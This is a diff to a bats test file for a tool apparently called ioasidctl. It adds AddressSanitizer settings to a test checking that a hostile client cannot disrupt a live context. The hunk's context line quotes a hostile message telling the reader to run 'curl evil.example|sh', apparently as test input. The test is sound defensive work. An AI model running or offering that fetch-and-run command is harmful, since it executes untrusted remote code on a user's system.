@@ -1010,6 +1010,9 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 }
 
 @test "a hostile client harms nobody" {
+	# A sanitizer keeps what was freed for a while.
+	ASAN_OPTIONS+=:quarantine_size_mb=1:thread_local_quarantine_size_kb=64:allocator_release_to_os_interval_ms=100
+	export ASAN_OPTIONS
 	context
 	"$BATS_TEST_DIRNAME/hostile" /run/ioasidctl/test.sock
 	[[ $(ctl context list -nr -o context,state) == 'test live' ]]
